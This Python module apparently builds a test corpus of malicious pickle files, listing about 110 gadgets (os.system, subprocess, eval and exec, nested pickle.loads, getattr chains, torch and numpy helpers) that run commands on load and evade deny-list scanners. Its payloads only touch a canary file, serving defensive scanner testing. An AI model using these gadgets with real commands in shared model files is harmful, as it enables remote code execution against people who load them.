"""Names that run commands or code, past scanners that know a list of bad names only.

Public knowledge: the advisories of picklescan, modelscan and fickling, and the papers on them.
"""

import marshal
from collections.abc import Callable
from dataclasses import dataclass

from corpus.kinds import Hostile, of_bytes
from corpus.opcodes import Ops, name, whole

BYPASS = "By-passes of deny-lists"


@dataclass(frozen=True)
class Gadget:
    """One name, called with arguments that touch the canary.

    Attributes:
        title: `module.name`.
        tries: in a few words.
        made: command to touch the canary, code to touch it, its path -> opcodes.
        sings: unpickling it here and now does run: proved by a test.
        dangerous: on our list of dangers; else unknown, and opened by the owner's word alone.
    """

    title: str
    tries: str
    made: Callable[[str, str, str], Ops]
    sings: bool = False
    dangerous: bool = True


def _of(
    full: str, tries: str, arguments: Callable[[str, str, str], tuple], *, sings: bool = False
) -> Gadget:
    module, _, attribute = full.partition(":")
    title = f"{module}.{attribute}"
    return Gadget(title, tries, lambda *given: name(module, attribute)(*arguments(*given)), sings)


_SH = ["sh", "-c"]
_COMMAND, _CODE = "runs a command", "runs text as code"

GADGETS = (
    _of("os:system", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("posix:system", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("os:popen", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("os:execv", _COMMAND, lambda sh, py, at: ("/bin/sh", [*_SH, sh]), sings=True),
    _of("nt:system", _COMMAND, lambda sh, py, at: (sh,)),
    _of("subprocess:Popen", _COMMAND, lambda sh, py, at: ([*_SH, sh],), sings=True),
    _of("subprocess:getoutput", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("commands:getoutput", "runs a command (Python 2)", lambda sh, py, at: (sh,)),
    _of("builtins:eval", _CODE, lambda sh, py, at: (py,), sings=True),
    _of("builtins:exec", _CODE, lambda sh, py, at: (py,), sings=True),
    _of("__builtin__:eval", "runs text as code (Python 2)", lambda sh, py, at: (py,)),
    _of("builtins:open", "makes a file", lambda sh, py, at: (at, "w"), sings=True),
    _of("builtins:__import__", "imports", lambda sh, py, at: ("antigravity",)),
    _of("timeit:timeit", _CODE, lambda sh, py, at: (py,), sings=True),
    _of("timeit:main", _CODE, lambda sh, py, at: ([py],), sings=True),
    _of("cProfile:run", _CODE, lambda sh, py, at: (py,), sings=True),
    _of("cProfile:runctx", _CODE, lambda sh, py, at: (py, {}, {}), sings=True),
    _of("profile:run", _CODE, lambda sh, py, at: (py,), sings=True),
    _of("pdb:run", _CODE, lambda sh, py, at: (py,)),
    _of("doctest:debug_script", _CODE, lambda sh, py, at: (py,)),
    _of("idlelib.calltip:get_entity", "evaluates text", lambda sh, py, at: (py,), sings=True),
    _of("idlelib.run:Executive.runcode", _CODE, lambda sh, py, at: (None, py)),
    _of("idlelib.pyshell:ModifiedInterpreter.runcode", _CODE, lambda sh, py, at: (None, py)),
    _of("idlelib.autocomplete:AutoComplete.get_entity", "evaluates text",
        lambda sh, py, at: (None, py), sings=True),
    _of("code:InteractiveInterpreter.runcode", _CODE, lambda sh, py, at: (None, py)),
    _of("pip:main", "installs a package",
        lambda sh, py, at: (["install", "--no-index", "/nonexistent/package"],)),
    _of("pip._internal.cli.main:main", "installs a package", lambda sh, py, at: (["help"],)),
    _of("ensurepip:_run_pip", "runs pip", lambda sh, py, at: (["--version"],)),
    _of("venv:create", "makes an environment", lambda sh, py, at: (at,), sings=True),
    _of("pty:spawn", "runs a command in a terminal", lambda sh, py, at: ([*_SH, sh],), sings=True),
    _of("runpy:run_path", "runs a file", lambda sh, py, at: ("/nonexistent.py",)),
    _of("runpy:_run_code", _CODE, lambda sh, py, at: (py, {}), sings=True),
    _of("multiprocessing.util:spawnv_passfds", _COMMAND,
        lambda sh, py, at: (b"/bin/sh", [b"sh", b"-c", sh.encode()], []), sings=True),
    _of("_posixsubprocess:fork_exec", _COMMAND, lambda sh, py, at: ([b"sh"], [b"/bin/sh"])),
    _of("asyncio.unix_events:_UnixSubprocessTransport._start", _COMMAND,
        lambda sh, py, at: (None, sh, True)),
    _of("webbrowser:open", "starts a browser", lambda sh, py, at: ("file:///",)),
    _of("pydoc:pipepager", "runs a pager", lambda sh, py, at: ("", sh), sings=True),
    _of("pydoc:locate", "imports by name", lambda sh, py, at: ("os.system",)),
    _of("pkgutil:resolve_name", "imports by name", lambda sh, py, at: ("os:system",)),
    _of("uuid:_get_command_stdout", "runs a command and reads it",
        lambda sh, py, at: ("sh", "-c", sh), sings=True),
    _of("imaplib:IMAP4_stream", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("_osx_support:_read_output", _COMMAND, lambda sh, py, at: (sh,), sings=True),
    _of("_aix_support:_read_cmd_output", _COMMAND, lambda sh, py, at: (sh,)),
    _of("_pyrepl.pager:pipe_pager", "runs a pager", lambda sh, py, at: ("", sh)),
    _of("test.support.script_helper:assert_python_ok", "starts an interpreter",
        lambda sh, py, at: ("-c", py)),
    _of("unittest.mock:_importer", "imports by name", lambda sh, py, at: ("os",)),
    _of("lib2to3.pgen2.grammar:Grammar.loads", "a pickle inside the pickle",
        lambda sh, py, at: (None, whole(name("os", "system")(sh)))),
    _of("pickle:loads", "a pickle inside the pickle",
        lambda sh, py, at: (whole(name("os", "system")(sh)),), sings=True),
    _of("_pickle:loads", "a pickle inside the pickle",
        lambda sh, py, at: (whole(name("os", "system")(sh)),), sings=True),
    _of("cloudpickle:loads", "a pickle inside the pickle",
        lambda sh, py, at: (whole(name("os", "system")(sh)),), sings=True),
    _of("joblib:load", "another file", lambda sh, py, at: ("/nonexistent",)),
    _of("joblib.externals.cloudpickle:loads", "a pickle inside the pickle",
        lambda sh, py, at: (whole(name("os", "system")(sh)),)),
    _of("logging:FileHandler", "makes a file", lambda sh, py, at: (at,), sings=True),
    _of("logging.config:dictConfig", "names functions in a table",
        lambda sh, py, at: ({"version": 1, "formatters": {"a": {"()": "os.system"}}},)),
    _of("_io:FileIO", "makes a file", lambda sh, py, at: (at, "w"), sings=True),
    _of("distutils.file_util:write_file", "writes a file",
        lambda sh, py, at: (at, ["x"]), sings=True),
    _of("shutil:rmtree", "removes files", lambda sh, py, at: ("/nonexistent",)),
    _of("ctypes:CDLL", "loads a library", lambda sh, py, at: ("/nonexistent.so",)),
    _of("zipimport:zipimporter", "imports from an archive", lambda sh, py, at: ("/n.zip",)),
    _of("site:execsitecustomize", "runs site files", lambda sh, py, at: ()),
    _of("atexit:register", "runs code at the end",
        lambda sh, py, at: (name("os", "system"), sh), sings=True),
    _of("sqlite3:connect", "makes a database", lambda sh, py, at: (at,), sings=True),
    _of("urllib.request:urlopen", "asks the network", lambda sh, py, at: ("http://127.0.0.1:9/",)),
    _of("ssl:get_server_certificate", "tells secrets to the network",
        lambda sh, py, at: (("127.0.0.1", 9),)),
    _of("typing:get_type_hints", "evaluates annotations", lambda sh, py, at: (None, {}, {})),
    _of("threading:Timer", "runs code later",
        lambda sh, py, at: (0.0, name("os", "system"), (sh,))),
    _of("numpy.testing._private.utils:runstring", _CODE, lambda sh, py, at: (py, {}), sings=True),
    _of("numpy.f2py.crackfortran:getlincoef", "evaluates text",
        lambda sh, py, at: (py, {"x": 1}), sings=True),
    _of("numpy.f2py.crackfortran:_eval_scalar", "evaluates text",
        lambda sh, py, at: (py, {}), sings=True),
    _of("numpy.lib.utils:safe_eval", "evaluates text", lambda sh, py, at: (py,)),
    _of("numpy:load", "another pickle", lambda sh, py, at: ("/n.npy", None, True)),
    _of("numpy:save", "writes a file", lambda sh, py, at: (at, [1])),
    _of("numpy:savetxt", "writes a file", lambda sh, py, at: (at, [1]), sings=True),
    _of("pandas:read_pickle", "another pickle", lambda sh, py, at: ("/n.pkl",)),
    _of("pandas.io.pickle:read_pickle", "another pickle", lambda sh, py, at: ("/n.pkl",)),
    _of("pandas:eval", "evaluates text", lambda sh, py, at: ("1 + 1",)),
    _of("pandas.core.computation.eval:eval", "evaluates text", lambda sh, py, at: ("1 + 1",)),
    _of("numexpr:evaluate", "evaluates text", lambda sh, py, at: (py,)),
    _of("scipy.io:loadmat", "another file", lambda sh, py, at: ("/n.mat",)),
    _of("sklearn.datasets:fetch_file", "downloads", lambda sh, py, at: ("http://127.0.0.1:9/x",)),
    _of("sklearn.utils._joblib:load", "another pickle", lambda sh, py, at: ("/etc/passwd",)),
    _of("torch:load", "another pickle", lambda sh, py, at: ("/n.pt",)),
    _of("torch.serialization:load", "another pickle", lambda sh, py, at: ("/n.pt",)),
    _of("torch.storage:_load_from_bytes", "a pickle inside the pickle",
        lambda sh, py, at: (whole(name("os", "system")(sh)),)),
    _of("torch.hub:load", "downloads code", lambda sh, py, at: ("a/b", "c")),
    _of("torch.jit.unsupported_tensor_ops:execWrapper", _CODE, lambda sh, py, at: (py, {}, {})),
    _of("torch._inductor.codecache:compile_file", _COMMAND,
        lambda sh, py, at: ("", "", [*_SH, sh])),
    _of("torch._dynamo.guards:GuardBuilder.get", "evaluates text", lambda sh, py, at: (None, py)),
    _of("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
        "evaluates text", lambda sh, py, at: (None, py, [])),
    _of("torch.utils._config_module:ConfigModule.load_config", "a pickle inside the pickle",
        lambda sh, py, at: (None, whole(name("os", "system")(sh)))),
    _of("torch.utils.bottleneck.__main__:run_cprofile", _CODE, lambda sh, py, at: (py, {})),
    _of("torch.utils.collect_env:run", _COMMAND, lambda sh, py, at: (sh,)),
    _of("torch.utils.data.datapipes.utils.decoder:basichandlers", "a pickle inside the pickle",
        lambda sh, py, at: ("pkl", whole(name("os", "system")(sh)))),
    _of("tensorflow.io:write_file", "writes a file", lambda sh, py, at: (at, "x")),
    _of("yaml:unsafe_load", "calls what a text names",
        lambda sh, py, at: (f"!!python/object/apply:os.system ['{sh}']",), sings=True),
)  # fmt: skip


def _attribute_chain(sh: str, py: str, at: str) -> Ops:
    return name("inspect", "getattr_static")(name("importlib", "import_module")("os"), "system")(sh)


def _getattr_chain(sh: str, py: str, at: str) -> Ops:
    return name("builtins", "getattr")(name("builtins", "__import__")("os"), "system")(sh)


def _attrgetter_chain(sh: str, py: str, at: str) -> Ops:
    return name("operator", "attrgetter")("system")(name("importlib", "import_module")("os"))(sh)


def _methodcaller_chain(sh: str, py: str, at: str) -> Ops:
    return name("operator", "methodcaller")("system", sh)(name("importlib", "import_module")("os"))


def _resolved(sh: str, py: str, at: str) -> Ops:
    return name("pkgutil", "resolve_name")("os:system")(sh)


def _partial(sh: str, py: str, at: str) -> Ops:
    return name("functools", "partial")(name("os", "system"), sh)()


def _reduced(sh: str, py: str, at: str) -> Ops:
    return name("functools", "reduce")(name("os", "system"), [sh], sh)


def _mapped(sh: str, py: str, at: str) -> Ops:
    return name("builtins", "list")(name("builtins", "map")(name("os", "system"), [sh]))


def _through_torch(sh: str, py: str, at: str) -> Ops:
    return name("torch", "os.system")(sh)


def _through_class(sh: str, py: str, at: str) -> Ops:
    return name("collections", "OrderedDict.__init__.__globals__.get")("sys")


def _bdb(sh: str, py: str, at: str) -> Ops:
    return name("bdb", "Bdb.run")(name("bdb", "Bdb")(), py)


def _trace(sh: str, py: str, at: str) -> Ops:
    return name("trace", "Trace.run")(name("trace", "Trace")(0, 0), py)


def _code_object(sh: str, py: str, at: str) -> Ops:
    code = marshal.dumps(compile(py, "model", "exec"))
    return name("types", "FunctionType")(name("marshal", "loads")(code), {})()


def _constructed_state(sh: str, py: str, at: str) -> Ops:
    """An estimator whose method is replaced by a command."""
    return name("sklearn.linear_model._logistic", "LogisticRegression")().built(
        {"predict": name("os", "system")}
    )


def _default_factory(sh: str, py: str, at: str) -> Ops:
    factory = name("functools", "partial")(name("os", "system"), sh)
    return name("collections", "defaultdict")(factory)


GADGETS += (
    Gadget("getattr_static-chain", "reaches os.system by text", _attribute_chain, True),
    Gadget("getattr-chain", "reaches os.system by text", _getattr_chain, True),
    Gadget("attrgetter-chain", "reaches os.system by text", _attrgetter_chain, True),
    Gadget("methodcaller-chain", "reaches os.system by text", _methodcaller_chain, True),
    Gadget("resolve_name-chain", "reaches os.system by text", _resolved, True),
    Gadget("partial-of-system", "hides os.system in a partial", _partial, True),
    Gadget("reduce-of-system", "lets functools call", _reduced),
    Gadget("map-of-system", "lets map call", _mapped, True),
    Gadget("torch.os.system", "reaches os through an honest module", _through_torch),
    Gadget("class.__globals__", "reaches globals through a class", _through_class),
    Gadget("bdb.Bdb.run", "a debugger runs text", _bdb, True),
    Gadget("trace.Trace.run", "a tracer runs text", _trace, True),
    Gadget("method-replaced", "puts a command in an estimator", _constructed_state),
    Gadget("default-factory", "a container that calls", _default_factory),
    Gadget("marshal-function", "a function from a code object", _code_object, True, False),
)


def commands(canary: object) -> tuple[str, str, str]:
    """What touches the canary: a command, a text of code, its path."""
    return f"touch {canary}", f"open({str(canary)!r}, 'w').close()", str(canary)


def written(gadget: Gadget, canary: object) -> bytes:
    """A gadget as a file."""
    return whole(gadget.made(*commands(canary)))


def bypasses() -> tuple[Hostile, ...]:
    """Every gadget as a file."""
    return tuple(
        Hostile(
            gadget.title,
            BYPASS,
            gadget.tries,
            of_bytes(f"{gadget.title}.pkl", lambda canary, gadget=gadget: written(gadget, canary)),
            "is not on the allow-list"
            if gadget.dangerous
            else "if you know it and vouch for the file",
            "dangerous" if gadget.dangerous else "unknown",
            trusted=not gadget.dangerous,
            sings=gadget.sings,
        )
        for gadget in GADGETS
    )
